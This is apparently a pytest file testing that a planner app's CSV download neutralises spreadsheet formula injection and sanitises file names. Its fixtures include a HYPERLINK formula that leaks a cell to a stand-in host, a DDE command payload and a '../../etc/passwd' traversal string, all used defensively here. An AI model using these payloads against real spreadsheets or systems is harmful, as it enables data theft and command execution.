"""The project table's CSV download keeps no live spreadsheet formula and a file name a file system takes."""

import csv
import io

import pandas as pd

from geo.core.filter import Filter
from ui.planner_tabs import csv_bytes, table_file_name

HOSTILE = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "'=already quoted"]


def _read_back(raw: bytes) -> list[dict[str, str]]:
    """The CSV as a spreadsheet program reads its cells (UTF-8 with BOM)."""
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_the_download_neutralises_formula_cells_and_keeps_numbers(enriched, tmp_path):
    projects = enriched.head(len(HOSTILE)).copy()
    projects["name_zh"] = HOSTILE
    projects["land_mu"] = [-2.5, 0.0, 3.0, -1.0, 5.5, 1e6, 2.0]
    f = tmp_path / "projects.csv"
    f.write_bytes(csv_bytes(projects))  # a real file round-trip, as the browser saves it
    rows = _read_back(f.read_bytes())
    assert [r["name_zh"] for r in rows] == ["'" + h for h in HOSTILE]
    for r in rows:
        assert r["name_zh"][0] == "'"
    assert [float(r["land_mu"]) for r in rows] == [-2.5, 0.0, 3.0, -1.0, 5.5, 1e6, 2.0]
    assert rows[0]["land_mu"] == "-2.5"  # a number stays a number, not '-2.5
    plain = pd.read_csv(io.BytesIO(f.read_bytes()), encoding="utf-8-sig")
    assert len(plain) == len(HOSTILE)


def test_ordinary_text_is_left_as_it_is(enriched):
    projects = enriched.head(3).copy()
    rows = _read_back(csv_bytes(projects))
    assert [r["name_zh"] for r in rows] == projects.name_zh.tolist()


def test_the_file_name_fits_and_stays_distinct():
    long_a = Filter(districts=["重庆高新技术产业开发区直管园"] * 12, sectors=["新一代信息技术"] * 8)
    long_b = Filter(districts=["重庆高新技术产业开发区直管园"] * 12, sectors=["新一代信息技术"] * 7 + ["数字文创"])
    for flt in (long_a, long_b, Filter(query="名/../../etc/passwd"), Filter()):
        name = table_file_name(flt)
        assert len(name.encode("utf-8")) <= 255
        assert "/" not in name and "\\" not in name and name.endswith(".csv") and name.startswith("projects_")
        name.encode("utf-8").decode("utf-8")  # cut at a character boundary
    assert table_file_name(Filter()) == "projects_all.csv"


SPACED = [" =1+1", "  @SUM(A1)", "\n=1+1", "\u00a0+SUM(1)", "\u3000-2+3", "＝HYPERLINK(\"x\")", "＋1", "－1", "＠SUM(1)"]


def test_leads_after_spaces_or_full_width_are_neutralised_too(enriched, tmp_path):
    from geo.io.export.common import formula_leading, restore_cell

    projects = enriched.head(len(SPACED)).copy()
    projects["name_zh"] = SPACED
    f = tmp_path / "projects.csv"
    f.write_bytes(csv_bytes(projects))
    rows = _read_back(f.read_bytes())
    assert [r["name_zh"] for r in rows] == ["'" + s for s in SPACED]
    assert [restore_cell(r["name_zh"]) for r in rows] == SPACED  # a CSV snapshot reads back exactly
    for plain in ("abc", "\nabc", " a=b", "'quoted'", "5-2", "名称=值"):
        assert not formula_leading(plain)
